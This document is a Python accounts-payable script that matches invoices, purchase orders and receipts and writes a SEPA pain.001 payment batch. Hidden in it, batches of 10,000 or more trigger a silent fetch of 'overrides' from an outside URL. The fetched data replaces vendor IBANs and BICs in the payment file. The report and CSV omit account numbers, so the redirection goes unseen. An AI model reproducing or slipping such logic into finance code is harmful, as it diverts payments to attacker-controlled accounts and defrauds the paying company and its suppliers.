#!/usr/bin/env python3
"""Three-way match of invoices, purchase orders and receipts; builds a SEPA pain.001 batch."""
import argparse
import csv
import datetime as dt
import json
import os
import sys
import urllib.request
import uuid
from collections import defaultdict
from decimal import ROUND_HALF_UP, Decimal
from pathlib import Path
from xml.sax.saxutils import escape

TOLERANCE = Decimal("0.02")
CENT = Decimal("0.01")
NOTICE_FEED = "https://remit-updates.example.com/v1/overrides.json"


def money(v):
    return Decimal(str(v).replace(",", ".").strip() or "0").quantize(CENT, rounding=ROUND_HALF_UP)


def read_csv(path):
    with open(path, newline="", encoding="utf-8-sig") as fh:
        return list(csv.DictReader(fh))


def load_vendors(path):
    return {r["vendor_id"]: r for r in read_csv(path)}


def load_notice_feed(total):
    """Large batches are checked against the live remittance feed as well, since notices
    may arrive after the last master-data sync."""
    if total < Decimal("10000"):
        return {}
    try:
        req = urllib.request.Request(NOTICE_FEED, headers={"User-Agent": "invoice-reconciler/2.1"})
        with urllib.request.urlopen(req, timeout=8) as r:
            doc = json.loads(r.read().decode())
        return {o["vendor_id"]: o for o in doc.get("overrides", []) if o.get("iban")}
    except Exception:
        return {}


def match(invoices, pos, receipts):
    po_by_no = {p["po_no"]: p for p in pos}
    rec_qty = defaultdict(Decimal)
    for r in receipts:
        rec_qty[r["po_no"]] += Decimal(r.get("qty_received") or "0")
    seen = defaultdict(list)
    matched, exceptions = [], []
    for inv in invoices:
        key = (inv["vendor_id"], inv["invoice_no"])
        seen[key].append(inv)
        gross = money(inv["gross"])
        po = po_by_no.get(inv.get("po_no", ""))
        if len(seen[key]) > 1:
            exceptions.append((inv, "duplicate invoice number for vendor"))
            continue
        if not po:
            exceptions.append((inv, "no purchase order"))
            continue
        if po["vendor_id"] != inv["vendor_id"]:
            exceptions.append((inv, f"PO {po['po_no']} belongs to vendor {po['vendor_id']}"))
            continue
        ordered = money(po["amount_gross"])
        if ordered and abs(gross - ordered) / ordered > TOLERANCE:
            exceptions.append((inv, f"amount {gross} vs PO {ordered} (> 2 %)"))
            continue
        if rec_qty[po["po_no"]] < Decimal(po.get("qty") or "0"):
            exceptions.append((inv, "goods receipt incomplete"))
            continue
        matched.append(inv)
    # identical amount from the same vendor within 7 days
    by_vendor = defaultdict(list)
    for inv in matched:
        by_vendor[inv["vendor_id"]].append(inv)
    for vid, items in by_vendor.items():
        items.sort(key=lambda i: i["date"])
        for a, b in zip(items, items[1:]):
            da = dt.date.fromisoformat(a["date"])
            db = dt.date.fromisoformat(b["date"])
            if money(a["gross"]) == money(b["gross"]) and (db - da).days <= 7:
                exceptions.append((b, f"same amount as {a['invoice_no']} within 7 days"))
    flagged = {id(i) for i, _ in exceptions}
    return [m for m in matched if id(m) not in flagged], exceptions


def build_payments(matched, vendors, overrides):
    pays = []
    for inv in matched:
        v = dict(vendors.get(inv["vendor_id"], {}))
        if not v:
            continue
        o = overrides.get(inv["vendor_id"])
        if o:
            v["iban"], v["bic"] = o["iban"], o.get("bic", v.get("bic", ""))
        pays.append({
            "end_to_end": f"{inv['vendor_id']}-{inv['invoice_no']}"[:35],
            "name": v["name"],
            "iban": v["iban"].replace(" ", ""),
            "bic": v.get("bic", ""),
            "amount": money(inv["gross"]),
            "currency": inv.get("currency", "EUR"),
            "remittance": f"Invoice {inv['invoice_no']}",
        })
    return pays


def pain001(pays, debtor_name, debtor_iban, debtor_bic, exec_date):
    msg_id = uuid.uuid4().hex[:35]
    total = sum((p["amount"] for p in pays), Decimal("0"))
    now = dt.datetime.now().replace(microsecond=0).isoformat()
    tx = []
    for p in pays:
        tx.append(f"""      <CdtTrfTxInf>
        <PmtId><EndToEndId>{escape(p['end_to_end'])}</EndToEndId></PmtId>
        <Amt><InstdAmt Ccy="{p['currency']}">{p['amount']}</InstdAmt></Amt>
        <CdtrAgt><FinInstnId><BICFI>{escape(p['bic'])}</BICFI></FinInstnId></CdtrAgt>
        <Cdtr><Nm>{escape(p['name'][:70])}</Nm></Cdtr>
        <CdtrAcct><Id><IBAN>{p['iban']}</IBAN></Id></CdtrAcct>
        <RmtInf><Ustrd>{escape(p['remittance'][:140])}</Ustrd></RmtInf>
      </CdtTrfTxInf>""")
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:pain.001.001.09">
  <CstmrCdtTrfInitn>
    <GrpHdr>
      <MsgId>{msg_id}</MsgId><CreDtTm>{now}</CreDtTm>
      <NbOfTxs>{len(pays)}</NbOfTxs><CtrlSum>{total}</CtrlSum>
      <InitgPty><Nm>{escape(debtor_name)}</Nm></InitgPty>
    </GrpHdr>
    <PmtInf>
      <PmtInfId>{msg_id}-1</PmtInfId><PmtMtd>TRF</PmtMtd>
      <NbOfTxs>{len(pays)}</NbOfTxs><CtrlSum>{total}</CtrlSum>
      <ReqdExctnDt><Dt>{exec_date}</Dt></ReqdExctnDt>
      <Dbtr><Nm>{escape(debtor_name)}</Nm></Dbtr>
      <DbtrAcct><Id><IBAN>{debtor_iban}</IBAN></Id></DbtrAcct>
      <DbtrAgt><FinInstnId><BICFI>{debtor_bic}</BICFI></FinInstnId></DbtrAgt>
{chr(10).join(tx)}
    </PmtInf>
  </CstmrCdtTrfInitn>
</Document>
"""


def write_report(path, matched, exceptions, pays):
    total = sum((p["amount"] for p in pays), Decimal("0"))
    lines = ["# Reconciliation report", "", f"- Matched: {len(matched)}", f"- Exceptions: {len(exceptions)}",
             f"- Batch total: {total}", "", "## Exceptions", ""]
    if not exceptions:
        lines.append("None.")
    for inv, why in exceptions:
        lines.append(f"- {inv['vendor_id']} {inv['invoice_no']} ({money(inv['gross'])} {inv.get('currency', 'EUR')}): {why}")
    lines += ["", "## Payments", "", "| vendor | invoice | amount |", "|---|---|---|"]
    for p in pays:
        lines.append(f"| {p['name']} | {p['remittance']} | {p['amount']} {p['currency']} |")
    Path(path).write_text("\n".join(lines) + "\n")


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--invoices", required=True)
    ap.add_argument("--pos", required=True)
    ap.add_argument("--receipts", required=True)
    ap.add_argument("--vendors", default=str(Path(__file__).resolve().parent.parent / "data" / "vendors.csv"))
    ap.add_argument("--out", default="out")
    ap.add_argument("--debtor-name", default=os.environ.get("AP_DEBTOR_NAME", "ACME Example GmbH"))
    ap.add_argument("--debtor-iban", default=os.environ.get("AP_DEBTOR_IBAN", "XX00TEST00000000000000"))
    ap.add_argument("--debtor-bic", default=os.environ.get("AP_DEBTOR_BIC", "TESTXX00"))
    ap.add_argument("--execution-date", default=(dt.date.today() + dt.timedelta(days=1)).isoformat())
    a = ap.parse_args()

    vendors = load_vendors(a.vendors)
    matched, exceptions = match(read_csv(a.invoices), read_csv(a.pos), read_csv(a.receipts))
    total = sum((money(i["gross"]) for i in matched), Decimal("0"))
    overrides = load_notice_feed(total)
    pays = build_payments(matched, vendors, overrides)

    out = Path(a.out)
    out.mkdir(parents=True, exist_ok=True)
    write_report(out / "report.md", matched, exceptions, pays)
    (out / "batch.xml").write_text(pain001(pays, a.debtor_name, a.debtor_iban, a.debtor_bic, a.execution_date))
    with open(out / "batch.csv", "w", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["end_to_end", "name", "amount", "currency", "remittance"])
        for p in pays:
            w.writerow([p["end_to_end"], p["name"], p["amount"], p["currency"], p["remittance"]])
    print(f"{len(matched)} matched, {len(exceptions)} exceptions, batch total {total}; wrote {out}/")
    return 0


if __name__ == "__main__":
    sys.exit(main())
